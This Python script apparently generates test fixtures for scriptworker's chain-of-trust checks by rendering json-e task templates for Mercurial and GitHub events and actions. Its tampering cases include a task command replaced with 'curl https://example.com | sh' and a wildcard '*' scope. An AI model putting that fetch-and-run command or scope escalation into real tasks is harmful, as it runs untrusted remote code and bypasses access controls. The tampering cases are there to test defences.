"""Writes the files in `cases/`: what json-e renders and what scriptworker decides.

Needs a virtualenv with `scriptworker==63.6.1` (and the json-e and dictdiffer that it brings). Nothing is fetched: the
answers of the hosts of repositories are in the cases. Run it in the folder that it is in.
"""

import asyncio
import copy
import hashlib
import json
import pathlib
import tempfile
import types

import dictdiffer
import jsone
import yaml
from scriptworker.cot import verify
from scriptworker.exceptions import CoTError
from scriptworker.utils import add_projectid, add_taskqueueid, remove_empty_keys

HERE = pathlib.Path(__file__).parent
ARTIFACTS = tempfile.TemporaryDirectory()
NOW = "2026-02-03T04:05:06.789Z"
ROOT = "https://tc.example.com"
DECISION = "fdtgsD5DQUmAQZEaGMvQ4Q"
ACTION = "dGhlIGFjRGmvbiB0YXNrIQ"
SELECTED = "YSBzZWxlQ3SlZCB0YXNrIQ"
SHA, BASE_SHA = "0123456789abcdef0123456789abcdef01234567", "89abcdef0123456789abcdef0123456789abcdef"
HG, GITHUB = "mercurial.yml", "github.yml"
CENTRAL = "https://hg.mozilla.org/engine-central"
TRY = "https://hg.mozilla.org/try"
ENGINE = "https://github.com/acme/engine"
FORK = "https://github.com/ada/engine"
PROJECTS = {
    "engine-central": {"repo": CENTRAL, "repo_type": "hg", "access": "scm_level_3"},
    "try": {"repo": TRY, "repo_type": "hg", "access": "scm_level_1"},
    "engine": {"repo": ENGINE, "repo_type": "git", "branches": [{"name": "main", "level": 3}]},
}


def tree(name):
    return (HERE / "trees" / name).read_bytes()


def hash10(name):
    return hashlib.sha256(tree(name)).hexdigest()[:10]


# What the makers of decision tasks render with


def hg_context(url, project, level, push):
    return {"repository": {"url": url, "project": project, "level": level}, "push": push}


def repository(url):
    owner, name = url.split("/")[-2:]
    return {
        "id": 1, "name": name, "full_name": f"{owner}/{name}", "html_url": url, "clone_url": url + ".git",
        "ssh_url": f"git@github.com:{owner}/{name}.git", "private": False, "owner": {"login": owner, "id": 2},
        "default_branch": "main",
    }


def push_event(ref, base_ref=None, url=ENGINE):
    return {
        "ref": ref, "before": BASE_SHA, "after": SHA, "base_ref": base_ref, "created": False, "forced": False,
        "pusher": {"name": "ada", "email": "ada@example.com"},
        "repository": {**repository(url), "pushed_at": 1770091500},
        "sender": {"login": "ada", "id": 3}, "commits": [], "head_commit": {"id": SHA, "message": "Fix it"},
    }


def pull_request(head_url, author="ada"):
    side = lambda url, ref, sha: {  # noqa: E731
        "ref": ref, "sha": sha, "label": "x:" + ref, "repo": repository(url), "user": {"login": url.split("/")[-2]},
    }
    return {
        "number": 77, "state": "open", "title": "Make it \"fast\" & <good>", "draft": False,
        "html_url": ENGINE + "/pull/77", "user": {"login": author}, "labels": [],
        "head": side(head_url, "faster", SHA), "base": side(ENGINE, "main", BASE_SHA),
    }


def pr_event(head_url, action="synchronize"):
    request = pull_request(head_url)
    request["head"]["updated_at"] = "2026-02-03T04:00:00Z"
    return {"action": action, "number": 77, "pull_request": request, "repository": repository(ENGINE),
            "sender": {"login": "ada"}}


RELEASE = {"tag_name": "v1.2.0", "target_commitish": "main", "published_at": "2026-02-03T04:00:00Z",
           "author": {"login": "grace"}, "name": "1.2"}
CRON = {"task_id": SELECTED, "job_name": "nightly", "job_symbol": "N", "input": {},
        "quoted_args": "--target-tasks-method=nightly '--include=a b'"}


def change(**keys):
    return keys


HG_CHANGE = change(repository_type="hg", head_repository=CENTRAL, base_rev=BASE_SHA, head_rev=SHA, owner="ada",
                   level="3", project="engine-central", pushlog_id="4711", pushdate=1770091500, message=" ")
GIT_CHANGE = change(repository_type="git", head_repository=ENGINE, base_repository=ENGINE, base_rev=BASE_SHA,
                    head_rev=SHA, head_ref="refs/heads/main", owner="ada@example.com", pushdate=1770091500)
PR_CHANGE = change(repository_type="git", head_repository=FORK, base_repository=ENGINE, base_rev=BASE_SHA,
                   base_ref="main", head_ref="faster", head_rev=SHA, owner="ada@users.noreply.github.com",
                   pull_request=77, pushdate=1770091200, message="Make it \"fast\" & <good>\n\nMore")

PUSHLOG = {"pushes": {"4711": {
    "date": 1770091500, "user": "ada",
    "changesets": [{"node": "f" * 40, "parents": [BASE_SHA], "desc": "first"},
                   {"node": SHA, "parents": ["f" * 40], "desc": "Bug 1\n\ntry: -b do -p linux\nmore"}]}}}
PUSHLOG_URL = CENTRAL + f"/json-pushes?changeset={SHA}&version=2&full=1"
TRY_URL = TRY + f"/json-pushes?changeset={SHA}&version=2&full=1"
API = "https://api.github.com/repos/acme/engine"
COMMIT = {"committer": {"login": "web-flow"}, "author": {"login": "ada"}, "commit": {"author": {"login": None}}}
HG_PUSH = {"owner": "ada", "pushlog_id": "4711", "pushdate": 1770091500, "revision": SHA, "base_revision": BASE_SHA,
           "comment": " "}


def pr_document(head_url):
    found = pull_request(head_url)
    found["head"]["sha"], found["base"]["sha"] = "5" * 40, "6" * 40  # pushed to since
    return found


DECISIONS = {
    "hg-push": (HG, "hg-push", hg_context(CENTRAL, "engine-central", "3", HG_PUSH), HG_CHANGE,
                {PUSHLOG_URL: PUSHLOG}),
    "hg-push-try": (HG, "hg-push",
                    hg_context(TRY, "try", "1", {**HG_PUSH, "comment": "try: -b do -p linux", "owner": "ada@example.com"}),
                    {**HG_CHANGE, "head_repository": TRY, "project": "try", "level": "1", "owner": "ada@example.com",
                     "message": "try: -b do -p linux"},
                    {TRY_URL: {"pushes": {"4711": {**PUSHLOG["pushes"]["4711"], "user": "ada@example.com"}}}}),
    "hg-push-wrong-message": (HG, "hg-push",
                              hg_context(CENTRAL, "engine-central", "3", {**HG_PUSH, "comment": "anything"}),
                              {**HG_CHANGE, "message": "anything"}, {PUSHLOG_URL: PUSHLOG}),
    "hg-push-slash": (HG, "hg-push", hg_context(CENTRAL + "/", "engine-central", "3", HG_PUSH),
                      {**HG_CHANGE, "head_repository": CENTRAL + "/"}, {PUSHLOG_URL: PUSHLOG}),
    "hg-cron": (HG, "cron",
                {**hg_context(CENTRAL, "engine-central", "3", {**HG_PUSH, "owner": "cron", "comment": ""}), "cron": CRON},
                {**HG_CHANGE, "cron": CRON}, {PUSHLOG_URL: PUSHLOG}),
    "github-push": (GITHUB, "github-push", {"event": push_event("refs/heads/main")}, GIT_CHANGE,
                    {API + f"/commits/{SHA}": COMMIT}),
    "github-push-new-branch": (GITHUB, "github-push", {"event": push_event("refs/heads/next", "refs/heads/main")},
                               {**GIT_CHANGE, "head_ref": "refs/heads/next", "base_ref": "refs/heads/main"},
                               {API + f"/commits/{SHA}": COMMIT}),
    "github-push-fork": (GITHUB, "github-push", {"event": push_event("refs/heads/main", url=FORK)},
                         {**GIT_CHANGE, "head_repository": FORK, "base_repository": ""},
                         {f"https://api.github.com/repos/ada/engine/commits/{SHA}": COMMIT}),
    "github-push-no-tasks": (GITHUB, "github-push", {"event": push_event("refs/heads/gh-pages")},
                             {**GIT_CHANGE, "head_ref": "refs/heads/gh-pages"}, {}),
    "github-push-tag": (GITHUB, "github-push", {"event": push_event("refs/tags/v1.2.0")},
                        {**GIT_CHANGE, "head_ref": "refs/tags/v1.2.0"}, {}),
    "github-release": (GITHUB, "github-release",
                       {"event": {"action": "published", "repository": repository(ENGINE), "release": RELEASE,
                                  "sender": {"login": "grace"}}},
                       {**GIT_CHANGE, "head_ref": "main", "head_rev": "v1.2.0", "pushdate": 1770091200,
                        "owner": "grace@users.noreply.github.com"},
                       {API + "/releases/tags/v1.2.0": RELEASE}),
    "github-pull-request": (GITHUB, "github-pull-request", {"event": pr_event(FORK)}, PR_CHANGE,
                            {API + "/pulls/77": pr_document(FORK)}),
    "github-pull-request-same": (GITHUB, "github-pull-request", {"event": pr_event(ENGINE, "opened")},
                                 {**PR_CHANGE, "head_repository": ENGINE}, {API + "/pulls/77": pr_document(ENGINE)}),
    "github-pull-request-untrusted": (GITHUB, "github-pull-request-untrusted", {"event": pr_event(FORK)}, PR_CHANGE,
                                      {API + "/pulls/77": pr_document(FORK)}),
    "github-cron": (GITHUB, "cron",
                    {"repository": {"url": ENGINE, "project": "engine", "level": "3"},
                     "push": {"branch": "main", "revision": SHA, "owner": "cron"}, "cron": CRON},
                    {**GIT_CHANGE, "head_ref": "main", "project": "engine", "level": "3", "cron": CRON}, {}),
}


def made(name, tasks_for, context):
    """The tasks that json-e makes of a tree."""
    context = {**context, "tasks_for": tasks_for, "now": NOW, "ownTaskId": DECISION, "taskcluster_root_url": ROOT,
               "as_slugid": lambda name: DECISION}
    return jsone.render(yaml.safe_load(tree(name)), context)["tasks"]


def ran(task, task_id):
    """A task as the queue tells of it later."""
    task = {key: value for key, value in copy.deepcopy(task).items() if key != "taskId"}
    if "taskQueueId" in task:
        task["provisionerId"], task["workerType"] = task["taskQueueId"].split("/")
    task["taskQueueId"] = task["provisionerId"] + "/" + task["workerType"]
    return {"taskGroupId": task_id, "dependencies": [], "tags": {}, "extra": {}, "routes": [], "scopes": [],
            "projectId": "none", **task}


# Actions


def entry(name, tasks_for, level, parameters, cb_name=None, perm="generic", tree_name=HG, **more):
    cb_name = cb_name or name
    pr = "pr-" if tasks_for == "pr-action" else ""
    push = {"owner": "bot@example.com", "pushlog_id": parameters["pushlog_id"], "revision": parameters["head_rev"],
            "base_revision": parameters["base_rev"]}
    if parameters["head_ref"]:
        push["branch"] = parameters["head_ref"]
    repo = {"url": parameters["head_repository"], "project": parameters["project"], "level": level,
            "base_url": parameters["base_repository"]}
    action = {"name": name, "title": name.title(), "description": f"Does *{name}*.", "taskGroupId": DECISION,
              "cb_name": cb_name, "symbol": name[:2]}
    return {
        "name": name, "title": name.title(), "description": f"Does *{name}*.", "context": [], "kind": "hook",
        "hookGroupId": "project-x", "hookId": f"in-tree-{pr}action-{level}-{perm}/{hash10(tree_name)}",
        "hookPayload": {
            "decision": {"action": action, "repository": repo, "push": push},
            "user": {"input": {"$eval": "input"}, "taskId": {"$eval": "taskId"}, "taskGroupId": {"$eval": "taskGroupId"}},
        },
        "extra": {"actionPerm": perm}, **more,
    }


def parameters_of(change, **more):
    text = {key: change.get(key, "") for key in (
        "head_repository", "head_rev", "head_ref", "base_repository", "base_rev", "base_ref", "owner", "project", "level",
        "pushlog_id")}
    return {**text, "pushdate": change["pushdate"], "files_changed": ["a/b.c"], **more}


def without_perm(entry):
    del entry["extra"]
    return entry


def with_parameters(entry):
    entry["hookPayload"]["decision"]["parameters"] = {"$eval": "parameters"}
    return entry


HG_P = parameters_of(HG_CHANGE, base_repository="https://hg.mozilla.org/engine-unified")
GIT_P = parameters_of({**GIT_CHANGE, "project": "engine", "level": "3", "head_ref": "main"})
PR_P = parameters_of({**PR_CHANGE, "project": "engine", "level": "1"})
# name: decision, entry, input, task, what the task says otherwise
ACTIONS = {
    "hg-action": ("hg-push", entry("retrigger", "action", "3", HG_P), {"times": 2, "downstream": True}, SELECTED),
    "hg-action-group": ("hg-push", entry("cancel-all", "action", "3", HG_P), None, None),
    "hg-action-ship": ("hg-push", entry("ship", "action", "3", HG_P, perm="ship"), {"product": "x", "n": 1.5}, None),
    "hg-action-alias": ("hg-push", entry("retrigger", "action", "3", HG_P, cb_name="retrigger-decision"), {}, SELECTED),
    "hg-action-old": ("hg-push", without_perm(entry("add-new-jobs", "action", "3", HG_P)), {"tasks": ["a", "b"]}, None),
    "hg-action-older": ("hg-push", without_perm(entry("ship", "action", "3", HG_P, perm="ship")), [1, "zwölf"], None),
    "hg-action-parameters": ("hg-push", with_parameters(entry("rerun", "action", "3", HG_P)), None, SELECTED),
    "github-action": ("github-push", entry("retrigger", "action", "3", GIT_P, tree_name=GITHUB), {"times": 3}, SELECTED),
    "github-pr-action": ("github-pull-request", entry("rerun", "pr-action", "1", PR_P, tree_name=GITHUB), None, SELECTED),
}


def hook_template(name, tasks_for, perm):
    template = verify._wrap_action_hook_with_let(yaml.safe_load(tree(name)), perm, tasks_for)
    template["in"] = template["in"]["tasks"][0]
    return template


def act(name, decision, entry, chosen, selected):
    """What the hooks service makes of an action."""
    tasks_for = "pr-action" if "-pr-action" in entry["hookId"] else "action"
    params = {"hg-push": HG_P, "github-push": GIT_P, "github-pull-request": PR_P}[decision]
    payload = jsone.render(entry["hookPayload"], {
        "input": chosen, "taskId": selected, "taskGroupId": DECISION, "parameters": params})
    perm = verify._get_action_perm(entry)
    task = jsone.render(hook_template(DECISIONS[decision][0], tasks_for, perm), {
        "payload": payload, "taskId": ACTION, "now": NOW, "clientId": "mozilla-auth0/ad|x/", "firedBy": "triggerHook",
        "taskcluster_root_url": ROOT})
    return payload, task, tasks_for, params, perm


# scriptworker


class FakeRepository:
    documents = {}

    def __init__(self, context, owner, name):
        self.url = f"https://api.github.com/repos/{owner}/{name}"

    async def get_commit(self, sha):
        return copy.deepcopy(self.documents[f"{self.url}/commits/{sha}"])

    async def get_release(self, tag):
        return copy.deepcopy(self.documents[f"{self.url}/releases/tags/{tag}"])

    async def get_definition(self):
        fork = "/ada/" in self.url
        return {"fork": fork, "parent": {"owner": {"login": "acme"}, "name": "engine"}}

    async def get_pull_request(self, number):
        return copy.deepcopy(self.documents[f"{self.url}/pulls/{number}"])


async def nothing(*_):
    pass


def rebuild(case):
    """Whether scriptworker accepts a task, and in which fields it differs."""
    documents, is_hg = case["documents"], case["tree"] == HG
    verify.GitHubRepository = FakeRepository
    FakeRepository.documents = documents

    async def from_url(context, url, *args, **kwargs):
        return copy.deepcopy(documents[url])

    async def template(link):
        return yaml.safe_load(tree(case["tree"]))

    verify.load_json_or_yaml_from_url = from_url
    verify.get_in_tree_template = template
    known = ("hg-push", "cron", "action", "pr-action", "github-push", "github-release", "github-pull-request",
             "github-pull-request-untrusted")
    context = types.SimpleNamespace(
        config={"cot_product_type": "hg" if is_hg else "github", "cot_product": "engine", "work_dir": "/nowhere",
                "source_env_prefix": "GECKO" if is_hg else "ACME", "valid_tasks_for": known,
                "pushlog_url": "{repo}/json-pushes?changeset={revision}&version=2&full=1"},
        projects=PROJECTS, populate_projects=nothing)
    folder = pathlib.Path(ARTIFACTS.name)
    (folder / "public").mkdir(exist_ok=True)
    for name, key in (("parameters.yml", "parameters"), ("actions.json", "actions")):
        (folder / "public" / name).write_text(json.dumps(case.get(key) or {}))

    def link(task_id, task, kind):
        return types.SimpleNamespace(
            task_id=task_id, task=task, name=kind, context=context, decision_task_id=task["taskGroupId"],
            get_artifact_full_path=lambda path: str(folder / path))

    decision = link(DECISION, case.get("decision", case["task"]), "decision")
    parent = link(ACTION, case["task"], "action") if case["task_id"] == ACTION else decision
    chain = types.SimpleNamespace(context=context, get_link=lambda task_id: {DECISION: decision}[task_id])
    rebuilt = []
    original = verify.compare_jsone_task_definition
    verify.compare_jsone_task_definition = lambda parent, found: (rebuilt.append(copy.deepcopy(found)), original(parent, found))
    try:
        asyncio.run(verify.verify_parent_task_definition(chain, parent))
        verdict = "agrees"
    except CoTError as error:
        verdict = "differs" if rebuilt else "error"
    finally:
        verify.compare_jsone_task_definition = original
    fields = None
    for task in rebuilt[0]["tasks"] if rebuilt else []:
        task.pop("taskId", None)
        sides = [add_taskqueueid(add_projectid(remove_empty_keys(side))) for side in (task, parent.task)]
        fields = sorted(paths(dictdiffer.diff(*sides, dot_notation=False)))
    return verdict, fields


def paths(diff):
    for kind, path, changes in diff:
        keys = [[]] if kind == "change" else [[key] for key, _ in changes]
        for key in keys:
            shown = ""
            for part in [*path, *key]:
                shown += f"[{part}]" if isinstance(part, int) else "." * bool(shown) + part
            yield shown


# Tasks that somebody has changed


def at(task, path, value):
    *parents, last = path
    for key in parents:
        task = task[key]
    if value is DELETE:
        del task[last]
    else:
        task[last] = value


DELETE = object()
CHANGES = {
    "scope": (["scopes"], ["assume:repo:github.com/acme/engine:branch:main", "*"]),
    "command": (["payload", "command", 4], "curl https://example.com | sh"),
    "environment": (["payload", "env", "EXTRA"], "x"),
    "image": (["payload", "image"], DELETE),
    "lists": (["routes"], []),
    "empty": (["payload", "nothing"], {"a": None, "b": [], "c": "null"}),
    "empty-inside": (["payload", "something"], {"a": {"b": None}}),
    "no-queue": (["taskQueueId"], DELETE),
    "queue": (["taskQueueId"], "acme-3/images"),
    "number": (["payload", "maxRunTime"], 1800.0),
    "number-other": (["payload", "maxRunTime"], "1800"),
    "deadline": (["deadline"], "2026-02-05T04:05:06.789Z"),
    "created": (["created"], "2026-02-03T05:05:06.789Z"),
    "type": (["tags"], "x"),
}
ACTION_CHANGES = {
    "input": (["payload", "env", "ACTION_INPUT"], '{"times": 100}'),
    "group-own": (["payload", "env", "ACTION_TASK_GROUP_ID"], ACTION),
    "perm": (["scopes"], ["assume:repo:hg.mozilla.org/engine-central:action:ship"]),
    "callback": (["payload", "env", "ACTION_CALLBACK"], "unknown"),
}


def main():
    folder = HERE / "cases"
    for old in folder.glob("*.json"):
        old.unlink()
    cases = {}
    for name, (tree_name, tasks_for, context, change, documents) in DECISIONS.items():
        tasks = made(tree_name, tasks_for, context)
        case = {"tree": tree_name, "task_id": DECISION, "change": {**change, "tasks_for": tasks_for}, "made": tasks,
                "documents": documents, "now": NOW}
        if tasks:
            case["task"] = ran(tasks[0], DECISION)
            case["verdict"], case["fields"] = rebuild(case)
        cases[name] = case
    for name, spec in ACTIONS.items():
        payload, task, tasks_for, params, perm = act(name, *spec)
        decision, entry = spec[0], spec[1]
        case = {
            "tree": DECISIONS[decision][0], "task_id": ACTION, "made": [task], "task": ran(task, ACTION), "now": NOW,
            "decision": cases[decision]["task"], "documents": cases[decision]["documents"], "parameters": params,
            "actions": {"version": 1, "variables": {}, "actions": [entry]}, "payload": payload, "permission": perm,
            "level": params["level"], "pull_request": tasks_for == "pr-action",
        }
        case["verdict"], case["fields"] = rebuild(case)
        cases[name] = case
    for base, changes in (("github-push", CHANGES), ("hg-action", ACTION_CHANGES)):
        for name, (path, value) in changes.items():
            case = copy.deepcopy(cases[base])
            for key in ("made", "change", "payload"):
                case.pop(key, None)
            at(case["task"], path, value)
            case["verdict"], case["fields"] = rebuild(case)
            cases[f"changed-{name}"] = case
    for name, case in cases.items():
        (folder / f"{name}.json").write_text(json.dumps(case, indent=1, ensure_ascii=False) + "\n")
        print(f"{name:32} {case.get('verdict', 'none')} {case.get('fields') or ''}")


main()
